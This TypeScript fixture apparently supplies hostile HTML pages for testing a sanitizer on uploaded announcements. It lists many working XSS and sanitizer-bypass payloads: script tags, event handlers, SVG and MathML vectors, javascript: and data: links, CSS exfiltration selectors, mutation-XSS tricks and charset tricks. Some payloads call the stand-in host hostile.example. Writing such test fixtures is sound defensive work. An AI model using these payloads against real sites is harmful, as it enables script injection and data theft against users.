export interface HostilePage {
  title: string;
  /** Would set `window.hit = true`, or ask https://hostile.example for something, if any of it were carried out. */
  html: string;
  /** It is no text at all, or in no encoding that is taken: the upload itself is refused. */
  isRefused?: true;
}

const hit = 'window.hit=true';
const hit64 = Buffer.from(`<script>${hit}</script>`).toString('base64');
const elsewhere = 'https://hostile.example';

/** An innocent line before each: a page that nothing is left of would be refused, and prove less. */
const innocent = '<p>Annonce</p>';

const scripts: [string, string][] = [
  ['a script', `<script>${hit}</script>`],
  ['a script in capitals, with blanks', `<SCRIPT >${hit}</SCRIPT\t\n bar>`],
  ['a script from elsewhere', `<script src="${elsewhere}/a.js"></script>`],
  ['a script of no type, unclosed', `<script>${hit}`],
  ['a script cut into two', `<scr<script></script>ipt>${hit}</scr<script></script>ipt>`],
  ['a module', `<script type="module">import "${elsewhere}/a.js"</script>`],
  ['a slash for a blank', `<script/x>${hit}</script>`],
  ['half a tag before', `<<script>${hit}//<</script>`],
  ['a script behind a comment that ends early', `<!--><script>${hit}</script>-->`],
  ['a script behind a comment that ends with an exclamation', `<!-- --!><script>${hit}</script> -->`],
  ['a comment inside an attribute', `<p title="<!-- ">x</p><p title="--><script>${hit}</script>">y</p>`],
  ['a comment of an old browser', `<!--[if gte IE 4]><script>${hit}</script><![endif]-->`],
  ['a section of data', `<![CDATA[<script>${hit}</script>]]>`],
  ['a processing instruction', `<?php echo "?><script>${hit}</script>" ?>`],
];

const handlers: [string, string][] = [
  ['a broken image', `<img src=x onerror="${hit}">`],
  ['a broken image without blanks', `<img/src=x/onerror=${hit}>`],
  ['a handler behind a quote that was left open', `<img src="x" alt="a"onerror="${hit}">`],
  ['a handler behind a line break', `<img src=x on\u0065rror\n=\n"${hit}">`],
  ['a handler in single quotes and entities', `<img src='x' onerror='window&#46;hit&#61;true'>`],
  ['a body that loads', `<body onload="${hit}">`],
  ['a focus that comes by itself', `<p tabindex=0 autofocus onfocus="${hit}">x</p>`],
  ['an input with focus', `<input autofocus onfocus="${hit}">`],
  ['a detail that opens', `<details open ontoggle="${hit}"><summary>x</summary></details>`],
  ['a marquee', `<marquee onstart="${hit}">x</marquee>`],
  ['a video', `<video src=x onerror="${hit}"><source src=x onerror="${hit}"></video>`],
  ['a sound', `<audio autoplay onloadstart="${hit}" src="data:audio/wav;base64,UklGRg=="></audio>`],
  [
    'an animation of style',
    `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${hit}">x</p>`,
  ],
  ['a transition', `<p style="transition:color 1ms" ontransitionend="${hit}">x</p>`],
  [
    'a scrolled paragraph',
    `<p style="overflow:auto;height:1px" onscroll="${hit}" onscrollend="${hit}">x<br>x</p>`,
  ],
  [
    'content that becomes visible',
    `<p style="content-visibility:auto" oncontentvisibilityautostatechange="${hit}">x</p>`,
  ],
];

const vectors: [string, string][] = [
  ['a drawing that loads', `<svg onload="${hit}"></svg>`],
  ['a drawing with a script', `<svg><script>${hit}</script></svg>`],
  ['a drawing that animates a handler', `<svg><animate onbegin="${hit}" attributeName=x dur=1s></svg>`],
  ['a drawing that sets a handler', `<svg><set attributeName="onmouseover" to="${hit}"></svg>`],
  [
    'a drawing that animates a link',
    `<svg><a><animate attributeName=href values="javascript:${hit}"/><text x=20 y=20>x</text></a></svg>`,
  ],
  ['a drawing that uses another', `<svg><use href="${elsewhere}/a.svg#x"></use></svg>`],
  ['a drawing with an image', `<svg><image href="${elsewhere}/a.png"/></svg>`],
  [
    'HTML inside a drawing',
    `<svg><foreignObject><iframe srcdoc="<script>parent.hit=true</script>"></iframe></foreignObject></svg>`,
  ],
  ['a style inside a drawing', `<svg><style><img src=x onerror="${hit}"></style></svg>`],
  [
    'a formula with a link',
    `<math><maction actiontype="statusline" xlink:href="javascript:${hit}">x</maction></math>`,
  ],
];

const addresses: [string, string][] = [
  ['a link that is a script', `<a href="javascript:${hit}" autofocus>x</a>`],
  ['a link that is a script, with blanks', `<a href=" java\tscr\nipt:${hit}">x</a>`],
  ['a link that is a script, in entities', `<a href="&#106;&#x61;vascript&colon;${hit}">x</a>`],
  ['a link that is a page of its own', `<a href="data:text/html;base64,${hit64}">x</a>`],
  ['a link of an old browser', `<a href="vbscript:${hit}">x</a>`],
  ['a link without scheme', `<a href="//hostile.example/a" ping="${elsewhere}/ping">x</a>`],
  ['an image that is a page', `<img src="data:text/html;base64,${hit64}">`],
  [
    'an image that is a drawing',
    `<img src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${hit}"/>`).toString('base64')}">`,
  ],
  ['an image that only says it is one', `<img src="data:image/png;base64,${hit64}">`],
  [
    'an image from elsewhere',
    `<img src="${elsewhere}/pixel.png" srcset="${elsewhere}/2.png 2x" lowsrc="${elsewhere}/3.png">`,
  ],
  [
    'a picture of many sources',
    `<picture><source srcset="${elsewhere}/a.webp"><img src="${elsewhere}/a.png"></picture>`,
  ],
  [
    'a table with a ground',
    `<table background="${elsewhere}/a.png"><tr><td background="${elsewhere}/b.png">x</td></tr></table>`,
  ],
  ['a poster', `<video poster="${elsewhere}/a.png"></video>`],
  ['a citation', `<blockquote cite="javascript:${hit}">x</blockquote>`],
];

const styles: [string, string][] = [
  ['a style that asks elsewhere', `<p style="background:url(${elsewhere}/a.png)">x</p>`],
  ['a style that asks in escapes', `<p style="background:\\75\\72\\6c(${elsewhere}/a.png)">x</p>`],
  ['a style that asks behind a comment', `<p style="background:/**/u/**/rl('${elsewhere}/a.png')">x</p>`],
  ['a style that asks by image-set', `<p style="background-image:image-set('${elsewhere}/a.png' 1x)">x</p>`],
  ['a style that asks for a bullet', `<ul style="list-style:url(${elsewhere}/a.png)"><li>x</li></ul>`],
  ['a style that asks for a pointer', `<p style="cursor:url(${elsewhere}/a.cur),auto">x</p>`],
  ['a style that asks by a variable', `<p style="--x:url(${elsewhere}/a.png);background:var(--x)">x</p>`],
  ['a style of an old browser', `<p style="width:expression(${hit});behavior:url(${elsewhere}/a.htc)">x</p>`],
  [
    'a style that covers all',
    `<a href="${elsewhere}/" style="position:fixed;inset:0;z-index:9999;opacity:0">x</a>`,
  ],
  [
    'a sheet that asks elsewhere',
    `<style>@import "${elsewhere}/a.css"; p{background:url(${elsewhere}/a.png)}</style>`,
  ],
  [
    'a sheet that tells what it sees',
    `<style>input[value^=a]{background:url(${elsewhere}/a)}</style><input value="abc">`,
  ],
  [
    'a sheet with a font',
    `<style>@font-face{font-family:x;src:url(${elsewhere}/x.woff)}p{font-family:x}</style>`,
  ],
  ['a sheet that ends early', `<style><!--</style><img src=x onerror="${hit}">--></style>`],
];

const frames: [string, string][] = [
  ['a frame', `<iframe src="${elsewhere}/"></iframe>`],
  ['a frame that is a script', `<iframe src="javascript:parent.hit=true"></iframe>`],
  ['a frame that holds its page', `<iframe srcdoc="<script>parent.hit=true</script>"></iframe>`],
  [
    'frames inside frames',
    `<iframe srcdoc="<iframe srcdoc='<script>top.hit=true;parent.parent.hit=true</script>'></iframe>"></iframe>`,
  ],
  ['a set of frames', `<frameset onload="${hit}"><frame src="javascript:${hit}"></frameset>`],
  ['an object', `<object data="${elsewhere}/a.swf"><param name="movie" value="${elsewhere}/b.swf"></object>`],
  ['an embedded thing', `<embed src="data:text/html;base64,${hit64}">`],
  ['an applet', `<applet code="x" codebase="${elsewhere}/"></applet>`],
  ['a portal', `<portal src="${elsewhere}/"></portal><fencedframe></fencedframe>`],
];

const reaches: [string, string][] = [
  ['another base', `<base href="${elsewhere}/"><img src="a.png"><a href="b">x</a>`],
  ['a refresh', `<meta http-equiv="refresh" content="0;url=${elsewhere}/">`],
  [
    'a policy that lets all in',
    `<meta http-equiv="Content-Security-Policy" content="script-src *"><script>${hit}</script>`,
  ],
  [
    'a sheet that is linked',
    `<link rel="stylesheet" href="${elsewhere}/a.css"><link rel="preload" as="image" href="${elsewhere}/a.png">`,
  ],
  [
    'names looked up beforehand',
    `<link rel="dns-prefetch" href="${elsewhere}"><link rel="preconnect" href="${elsewhere}">`,
  ],
  ['a form', `<form action="${elsewhere}/" method="post"><button autofocus>x</button></form>`],
  [
    'a button that posts elsewhere',
    `<button form="f" formaction="javascript:${hit}">x</button><form id="f"></form>`,
  ],
  [
    'names that hide others',
    `<a id="document" name="hit">x</a><img name="body" id="defaultView"><form id="attributes"><input name="nodeName"></form>`,
  ],
  [
    'a map of links',
    `<map name="m"><area shape="rect" coords="0,0,9,9" href="javascript:${hit}"></map><img usemap="#m" src=x>`,
  ],
  ['a popover', `<button popovertarget="p">x</button><p id="p" popover onbeforetoggle="${hit}">y</p>`],
  ['an element of one’s own', `<x-hit is="x" onclick="${hit}" onpointerrawupdate="${hit}">x</x-hit>`],
];

/** What one parser takes for text and the next one, reading what the first wrote, for a tag. */
const mutations: [string, string][] = [
  ['noscript', `<noscript><p title="</noscript><img src=x onerror=${hit}>"></noscript>`],
  [
    'a formula with a style',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${hit}&gt;">`,
  ],
  [
    'a formula with a text area',
    `<math><mtext><mglyph><textarea><path id="</textarea><img src=x onerror=${hit}>">`,
  ],
  [
    'a formula annotated with HTML',
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${hit}></style></annotation-xml></math>`,
  ],
  [
    'forms that cannot nest',
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${hit}>`,
  ],
  ['a drawing with a paragraph', `<svg></p><style><a id="</style><img src=x onerror=${hit}>">`],
  ['a drawing with a title', `<svg><title><style><img src=x onerror=${hit}></style></title></svg>`],
  [
    'a drawing with a description',
    `<svg><desc><template><style></template></desc></svg><img title="</style><img src=x onerror=${hit}>">`,
  ],
  ['a template', `<template><script>${hit}</script><img src=x onerror="${hit}"></template>`],
  [
    'a template of a shadow',
    `<div><template shadowrootmode="open"><script>${hit}</script><slot></slot></template></div>`,
  ],
  ['a select', `<select><template><style></select><img src=x onerror=${hit}></style></template></select>`],
  [
    'an option',
    `<select><option><script>${hit}</script></option><iframe></select><img src=x onerror=${hit}>`,
  ],
  ['a title of a page', `<title><img src=x onerror="${hit}"></title></title><img src=x onerror=${hit}>`],
  ['a text area', `<textarea></textarea/><img src=x onerror=${hit}>`],
  ['an old listing', `<xmp><p title="</xmp><img src=x onerror=${hit}>"></xmp>`],
  ['plain text that never ends', `<p title="<plaintext>">x</p><plaintext><img src=x onerror=${hit}>`],
  [
    'no frames, no embedding',
    `<noembed><p title="</noembed><img src=x onerror=${hit}>"></noembed><noframes><p title="</noframes><img src=x onerror=${hit}>">`,
  ],
  [
    'a table that throws out what it holds',
    `<table><tr><script>${hit}</script><img src=x onerror=${hit}><td>x</table>`,
  ],
  [
    'deep nesting',
    `${'<div>'.repeat(600)}<svg><style><img src=x onerror=${hit}></style>${'</div>'.repeat(600)}`,
  ],
  ['an unclosed tag', `<p>x<img src=x onerror=${hit} alt="`],
  ['an unclosed attribute', `<img alt="x><script>${hit}</script><img src=x onerror=${hit} title="y`],
  ['back quotes', `<img alt="\`\`onerror=${hit}" src=x><p title="\`><script>${hit}</script>">x</p>`],
  [
    'entities that become tags',
    `<p>&lt;script&gt;${hit}&lt;/script&gt;</p><p title="&quot;&gt;&lt;img src=x onerror=${hit}&gt;">x</p>`,
  ],
  ['entities twice', `&amp;lt;img src=x onerror=${hit}&amp;gt;<p title="&amp;quot;onmouseover=${hit}">x</p>`],
  ['a line separator in a tag', `<img\u2028src=x\u2029onerror=${hit}><img\u00a0src=x onerror=${hit}>`],
  [
    'letters that fold to others',
    `<\u017fcript>${hit}</\u017fcript><img src=x \u00f6nerror=${hit} onerror\u0131=${hit}>`,
  ],
  [
    'an XML page',
    `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><x:script xmlns:x="http://www.w3.org/1999/xhtml">${hit}</x:script></html>`,
  ],
  ['another end of a namespace', `<svg><b><style><a title="</style><img src=x onerror=${hit}>"></b></svg>`],
];

const encodings: [string, string][] = [
  ['UTF-7 that is not declared', `+ADw-script+AD4-${hit}+ADw-/script+AD4-`],
  [
    'a Shift-JIS escape',
    `<p title="\u0081">x</p><p title=" onmouseover=${hit} ">y</p><img src=x onerror=${hit}>`,
  ],
];

const refused: [string, string][] = [
  ['UTF-7 that is declared', `<meta charset="utf-7">+ADw-script+AD4-${hit}+ADw-/script+AD4-`],
  ['UTF-16 that is declared', `<meta charset="utf-16le"><script>${hit}</script>`],
  ['ISO-2022-JP that is declared', `<meta charset="iso-2022-jp"><script>${hit}</script>`],
  ['UTF-16 without a mark', [...`<script>${hit}</script>`].join('\u0000')],
  ['NUL in a tag', `<scr\u0000ipt>${hit}</scr\u0000ipt><img src=x on\u0000error=${hit}>`],
  ['control characters in a link', `<a href="\u0001javascript:${hit}">x</a>`],
];

/** HTML files that mean harm, as somebody may upload them for an announcement. */
export const hostilePages: readonly HostilePage[] = [
  ...[scripts, handlers, vectors, addresses, styles, frames, reaches, mutations, encodings]
    .flat()
    .map(([title, html]) => ({ title, html: `${innocent}${html}` })),
  ...refused.map(([title, html]) => ({ title, html, isRefused: true as const })),
];
